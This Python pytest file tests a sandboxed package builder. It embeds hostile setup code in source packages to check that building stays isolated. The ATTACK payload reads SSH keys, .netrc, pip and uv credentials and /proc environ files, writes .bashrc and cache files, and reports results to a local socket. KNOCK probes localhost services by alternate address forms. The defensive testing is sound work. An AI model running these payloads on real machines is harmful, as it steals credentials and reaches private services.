"""Packages whose set-up code is hostile, built by the real installer, level by level."""

import contextlib
import functools
import http.server
import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from lockproof.adapters.environment.build import PipelineEnvironment, prepare
from lockproof.adapters.environment.interpreters import find_uv
from lockproof.adapters.sandbox.isolation import OFF, Isolation, Level
from lockproof.config import EnvironmentPolicy
from lockproof.errors import ConfigError

from .door import CALL, Door
from .test_environment import ask
from .test_isolation import level_or_skip
from .wheels import sdist, wheel


class Index:
    """A package index of one package."""

    private = False

    def __init__(self, folder: Path) -> None:
        private = self.private

        class Handler(http.server.SimpleHTTPRequestHandler):
            def do_GET(self) -> None:
                if private and "Basic" not in self.headers.get("Authorization", ""):
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="x"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if not self.path.endswith("/"):
                    super().do_GET()
                    return
                names = sorted(os.listdir(folder))
                page = "".join(f'<a href="/{name}">{name}</a>' for name in names).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *_args: object) -> None:
                """Nothing."""

        handler = functools.partial(Handler, directory=str(folder))
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.thread = threading.Thread(target=self.server.serve_forever)

    def __enter__(self) -> str:
        self.thread.start()
        user = "me:s3cret@" if self.private else ""
        return f"http://{user}127.0.0.1:{self.server.server_port}/simple"

    def __exit__(self, *_error: object) -> None:
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()


class PrivateIndex(Index):
    """One for those who have the password."""

    private = True


pytestmark = pytest.mark.usefixtures("index")
LEVELS = [Level.BUBBLEWRAP, Level.NAMESPACES, Level.LANDLOCK]

# CALL, HOME, PATHS, PID and PLACE are filled in; what worked is told to the door.
ATTACK = """
import json, os, pathlib, socket, subprocess, sys
worked = []
def attempt(name, function):
    try:
        if function():
            worked.append(name)
    except Exception:
        pass
def has_secret(path):
    with open(path, errors="replace") as file:
        return "s3cret" in file.read(100000)
def wrote(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("hostile")
    return True
for name in (".ssh/id_ed25519", ".netrc", ".config/pip/pip.conf", ".config/uv/uv.toml"):
    attempt("read " + name, lambda: has_secret(HOME + "/" + name))
for path in PATHS:
    attempt("write " + path, lambda: wrote(path))
for pid in (pid for pid in os.listdir("/proc") if pid.isdigit()):
    attempt("variables of " + pid, lambda: has_secret("/proc/" + pid + "/environ"))
attempt("own variables", lambda: "s3cret" in str(os.environ))
attempt("signal", lambda: os.kill(PID, 0) is None)
exec(CALL)
stay = '''
CALL
import os, socket, time
os.setsid()
with call(PLACE) as s:
    s.sendall(b'"staying"' + bytes([10]))
    print("there", flush=True)
    time.sleep(3000)
'''.replace("CALL", CALL).replace("PLACE", repr(PLACE))
# With a pipe of the installer's, which reads it to its end.
left = subprocess.Popen([sys.executable, "-I", "-S", "-c", stay], stdout=subprocess.PIPE)
left.stdout.readline()
with call(PLACE) as s:
    s.sendall(json.dumps(worked).encode() + bytes([10]))
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def home(tmp_path: Path, index: None, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Of somebody who has much to lose."""
    folder = tmp_path / "home"
    for name in (".ssh/id_ed25519", ".netrc", ".config/uv/uv.toml"):
        file = folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("# s3cret\n")
    links = os.environ["PIP_FIND_LINKS"].split()
    (folder / ".config/uv/uv.toml").write_text(
        f"# https://me:s3cret@127.0.0.1\nno-index = true\nfind-links = {json.dumps(links)}\n"
    )
    pip = folder / ".config/pip/pip.conf"
    pip.parent.mkdir(parents=True)
    pip.write_text("[global]\nextra-index-url = http://me:s3cret@127.0.0.1:9/simple\n")
    for name in [name for name in os.environ if name.startswith("XDG_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.setenv("UV_INDEX_MINE_PASSWORD", "s3cret")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
    return folder


def made(root: Path, isolation: Isolation, **policy: str) -> PipelineEnvironment:
    named = EnvironmentPolicy.model_validate(
        {key.replace("_", "-"): value for key, value in policy.items()}
        or {"requirements": "lock.txt"}
    )
    return anyio.run(prepare, named, root, root.parent / "cache", print, isolation)


@pytest.fixture
def victim() -> Iterator[int]:
    with subprocess.Popen(["sleep", "3000"], env={"TOKEN": "s3cret"}) as process:
        yield process.pid
        assert process.poll() is None
        process.kill()


def attack(home: Path, pid: int, place: Door) -> tuple[str, list[Path]]:
    """The code of the attack, and the files that it must not leave."""
    cache = home.parent / "cache"
    targets = [
        home / ".bashrc",
        home / ".cache" / "uv" / "hostile",
        home / ".cache" / "pip" / "hostile",
        home / ".cache" / "lockproof" / "hostile",
        cache / "envs" / "hostile" / "bin" / "python",
        home.parent / "project" / "lock.txt",
        home.parent / "links" / "hostile.whl",
    ]
    names = {"CALL": CALL, "HOME": str(home), "PATHS": [*map(str, targets)], "PID": pid}
    lines = [f"{name} = {value!r}" for name, value in names.items()]
    return "\n".join([*lines, f"PLACE = {place.server.getsockname()!r}", ATTACK]), targets


@pytest.mark.parametrize("level", LEVELS)
def test_set_up_code_reaches_nothing_of_the_user(
    root: Path,
    home: Path,
    door: Door,
    victim: int,
    level: Level,
) -> None:
    isolation = level_or_skip(level)
    door.open()
    code, targets = attack(home, victim, door)
    lock = sdist(root.parent / "links", "gamma", f"exec({code!r}, {{}})")
    (root / "lock.txt").write_text(lock)
    env = made(root, isolation)
    assert ask(env, "import gamma; print(gamma.VERSION)") == "1.0"
    (worked,) = [said for said in door.heard if said != "staying"]
    allowed = {"signal"} if level is Level.LANDLOCK else set()
    # Of what lies in no folder that it is shown, and of what it made in a home of its own.
    assert {name for name in worked if not name.startswith("write ")} <= allowed
    assert not [path for path in targets if path.exists() and "hostile" in path.read_text()]
    assert (root / "lock.txt").read_text() == lock
    assert "staying" in door.heard
    door.wait_until_all_left()
    assert not list((root.parent / "cache" / "envs").glob("*.build"))


# CALL, PLACE (of the door) and PLACES are filled in; where it got an answer is told to the door.
KNOCK = """
import json, socket
exec(CALL)
reached = []
def attempt(name, connect):
    try:
        with connect() as s:
            s.settimeout(20)
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            if b"reached" in s.makefile("rb").read(10000):  # To its end: it comes in parts.
                reached.append(name)
    except OSError:
        pass
for host, port in PLACES:
    attempt("straight " + host, lambda: socket.create_connection((host, port), 20))
    attempt("through " + host, lambda: call((host, port)))
    proxy = os.environ.get("HTTP_PROXY", "").rpartition("/")[2].partition(":")
    def asked():
        line = socket.create_connection((proxy[0], int(proxy[2])), 20)
        line.sendall(("GET http://%s:%d/ HTTP/1.1\\r\\n" % (host, port)).encode())
        return line
    if proxy[0]:
        attempt("asked for " + host, asked)
with call(PLACE) as s:
    s.sendall(json.dumps(reached).encode() + bytes([10]))
"""
OWN_MACHINE = ("127.0.0.1", "localhost", "127.1", "2130706433", "0x7f.1", "0.0.0.0", "127.9.9.9")
OWN_MACHINE += ("::1", "[::1]", "[::ffff:127.0.0.1]", "::ffff:127.0.0.1", "[::]", "::")


class Reached(http.server.BaseHTTPRequestHandler):
    """A service of the user's."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"reached")

    def log_message(self, *_args: object) -> None:
        """Nothing."""


@pytest.fixture
def service() -> Iterator[int]:
    """A port of this machine, at all its addresses."""
    with http.server.ThreadingHTTPServer(("0.0.0.0", 0), Reached) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


def knocking(root: Path, door: Door, port: int) -> None:
    places = [(host, port) for host in (*OWN_MACHINE, *own_addresses())]
    names = {"CALL": CALL, "PLACE": door.server.getsockname(), "PLACES": places}
    code = "\n".join([*(f"{name} = {value!r}" for name, value in names.items()), KNOCK])
    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", f"exec({code!r}, {{}})"))
    door.open()


def own_addresses() -> set[str]:
    """What this machine is called by elsewhere, so far as it knows."""
    with contextlib.suppress(OSError):
        infos = socket.getaddrinfo(socket.gethostname(), None, type=socket.SOCK_STREAM)
        return {str(info[4][0]) for info in infos}
    return set()


@pytest.mark.parametrize("level", [Level.BUBBLEWRAP, Level.NAMESPACES])
def test_set_up_code_reaches_no_service_of_this_machine(
    root: Path, door: Door, service: int, level: Level
) -> None:
    isolation = level_or_skip(level)
    knocking(root, door, service)
    env = made(root, isolation)
    assert ask(env, "import gamma; print(gamma.VERSION)") == "1.0"
    assert door.heard == [[]]


def test_where_isolation_is_off_it_reaches_them(root: Path, door: Door, service: int) -> None:
    """So that the test above can fail."""
    knocking(root, door, service)
    made(root, OFF)
    (reached,) = door.heard
    assert {"straight 127.0.0.1", "straight 127.1", "straight 2130706433"} <= set(reached)


def test_a_proxy_of_the_users_is_used_and_said(
    root: Path, door: Door, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    isolation = level_or_skip(Level.NAMESPACES)
    monkeypatch.setenv("ALL_PROXY", "http://127.0.0.1:9")
    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", "pass"))
    made(root, isolation)
    assert "but for this machine's network, since a proxy is set" in capsys.readouterr().out


@pytest.mark.parametrize("level", [Level.BUBBLEWRAP, Level.NAMESPACES])
@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_an_index_that_the_user_names_is_asked_wherever_it_is(
    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, installer: str, level: Level
) -> None:
    isolation = level_or_skip(level)
    if installer == "pip":
        monkeypatch.setattr("lockproof.adapters.environment.venvs.find_uv", lambda: None)
    elif find_uv() is None:
        pytest.skip("no uv")
    archive = tmp_path / "own"
    archive.mkdir()
    (root / "lock.txt").write_text(sdist(archive, "gamma", "pass"))
    with Index(archive) as url:
        monkeypatch.setenv("PIP_NO_INDEX", "0")
        monkeypatch.setenv("PIP_INDEX_URL", url)
        assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"


def test_an_index_of_this_machine_that_only_the_commit_names_is_not_asked_by_set_up_code(
    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    isolation = level_or_skip(Level.NAMESPACES)
    archive = tmp_path / "own"
    archive.mkdir()
    with Index(archive) as url:
        line = sdist(archive, "gamma", "pass")
        (root / "lock.txt").write_text(f"--index-url {url}\n{line}")
        monkeypatch.setenv("PIP_NO_INDEX", "0")
        with pytest.raises(ConfigError, match=r"asked for 127\.0\.0\.1:\d+, which is not"):
            made(root, isolation)
        monkeypatch.setenv("PIP_TRUSTED_HOST", url.split("/")[2])  # As the message says.
        assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"


def test_the_same_attack_works_where_isolation_is_off(
    root: Path,
    home: Path,
    door: Door,
    victim: int,
) -> None:
    """So that the test above can fail."""
    door.open()
    code, targets = attack(home, victim, door)
    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", f"exec({code!r}, {{}})"))
    made(root, OFF)
    (worked,) = [said for said in door.heard if said != "staying"]
    assert {"read .ssh/id_ed25519", "read .netrc", "signal"} <= set(worked)
    assert [path for path in targets if path.exists()]


@pytest.mark.parametrize("level", LEVELS)
def test_what_a_wheel_runs_at_every_start_runs_apart_too(
    root: Path, home: Path, level: Level
) -> None:
    isolation = level_or_skip(level)
    mark = home / "started"
    line = f"import os; os.path.isdir({str(home)!r}) and open({str(mark)!r}, 'w').close()"
    (root / "lock.txt").write_text(wheel(root.parent / "links", "delta", "1.0", at_start=line))
    env = made(root, isolation)
    assert not mark.exists()
    subprocess.run([str(env.python), "-c", ""], check=True)
    assert mark.exists(), "this test can fail"


@pytest.mark.parametrize("level", LEVELS)
def test_honest_sources_are_built(root: Path, level: Level) -> None:
    """By name and hash, by an include, and by a path in the repository."""
    isolation = level_or_skip(level)
    (root / "more.txt").write_text(sdist(root.parent / "links", "gamma", "pass"))
    (root / "vendor").mkdir()
    digest = sdist(root / "vendor", "epsilon", "pass").partition("sha256:")[2].strip()
    (root / "lock.txt").write_text(
        f"-r more.txt\nbeta_lib==1.0\n./vendor/epsilon-1.0.tar.gz --hash=sha256:{digest}\n"
    )
    env = made(root, isolation)
    code = "import beta_lib, gamma, epsilon; print(gamma.__cached__)"
    assert ask(env, code).endswith(".pyc")
    assert list((env.bin or root).parent.glob("lib/python*/site-packages/__pycache__/gamma*.pyc"))


@pytest.mark.skipif(find_uv() is None, reason="no uv")
@pytest.mark.parametrize("level", LEVELS)
def test_a_uv_project_with_a_source_package_is_built(root: Path, level: Level) -> None:
    isolation = level_or_skip(level)
    (root / "pyproject.toml").write_text(
        '[project]\nname = "p"\nversion = "0"\nrequires-python = ">=3.8"\n'
        'dependencies = ["gamma", "beta-lib==1.0"]\n'
        "[tool.uv.sources]\ngamma = { path = 'vendor/gamma-1.0.tar.gz' }\n"
    )
    (root / "vendor").mkdir()
    sdist(root / "vendor", "gamma", "pass")
    (root / "wheels").mkdir()
    wheel(root / "wheels", "beta_lib", "1.0")
    lock = [str(find_uv()), "lock", "--no-index", "--find-links", str(root / "wheels")]
    subprocess.run(lock, cwd=root, check=True, capture_output=True)
    env = made(root, isolation, uv_lock="uv.lock")
    assert ask(env, "import beta_lib, gamma; print(gamma.VERSION)") == "1.0"


@pytest.mark.skipif(find_uv() is None, reason="no uv")
@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("way", ["itself", "its folder", "twice"])
def test_uv_may_be_a_link_to_where_nothing_else_is_shown(
    root: Path, level: Level, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As pipx puts it into `~/.local/bin`, which is shown since it is on PATH."""
    isolation = level_or_skip(level)
    kept, shown = root.with_name("kept"), root.with_name("shown")
    for folder in (kept / "bin", shown):
        folder.mkdir(parents=True)
    (kept / "bin" / "uv").write_bytes(Path(str(find_uv())).read_bytes())
    (kept / "bin" / "uv").chmod(0o755)
    if way == "twice":
        (shown.with_name("second")).symlink_to("kept/bin/uv")
        (shown / "uv").symlink_to("../second")
    elif way == "itself":
        (shown / "uv").symlink_to(kept / "bin" / "uv")
    else:
        (shown / "bin").symlink_to("../kept/bin")
    places = [str(shown / "bin")] * (way == "its folder") + [str(shown), os.environ["PATH"]]
    monkeypatch.setenv("PATH", os.pathsep.join(places))
    found = find_uv()
    assert str(found).startswith(str(shown))
    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", "pass"))
    assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"


def test_what_lies_in_the_repository_is_part_of_what_is_installed(root: Path) -> None:
    """The same lines with another archive are another environment, not one found in the cache."""
    for text in ("first", "second"):
        checkout = root.with_name(text)
        (checkout / "wheels").mkdir(parents=True)
        (checkout / "lock.txt").write_text("--find-links wheels\nzeta==1.0\n")
        wheel(checkout / "wheels", "zeta", "1.0", code=f"TEXT = {text!r}\n")
        assert ask(made(checkout, OFF), "import zeta; print(zeta.TEXT)") == text


def test_one_that_was_built_in_the_open_is_built_again_where_isolation_is_required(
    root: Path,
) -> None:
    isolation = level_or_skip(Level.NAMESPACES)
    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", "pass"))
    cache, told = root.parent / "cache", []
    policy = EnvironmentPolicy(requirements="lock.txt")

    async def build(isolation: Isolation, *, strict: bool) -> int:
        await prepare(policy, root, cache, told.append, isolation, strict=strict)
        return sum(line.startswith("building the environment") for line in told)

    async def main() -> list[int]:
        return [
            await build(OFF, strict=False),
            await build(isolation, strict=False),
            await build(isolation, strict=True),
            await build(isolation, strict=True),
        ]

    # In one process the first is in use, so the stricter one lies beside it.
    assert anyio.run(main) == [1, 1, 2, 2]
    assert any("kept apart by namespaces" in line for line in told)
    assert any("runs in the open" in line for line in told)


def test_an_index_that_wants_credentials_for_a_source_is_named(
    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Wheels come with the user's password; a source package gets none, and a line says so."""
    isolation = level_or_skip(Level.NAMESPACES)
    archive = tmp_path / "private"
    archive.mkdir()
    line = sdist(archive, "gamma", "pass")
    with PrivateIndex(archive) as url:
        monkeypatch.setenv("PIP_NO_INDEX", "0")
        monkeypatch.setenv("PIP_INDEX_URL", url)
        (root / "lock.txt").write_text(line)
        with pytest.raises(ConfigError, match="given no credentials: publish a wheel of it"):
            made(root, isolation)
        (root / "lock.txt").write_text(wheel(archive, "gamma", "1.0"))
        assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"
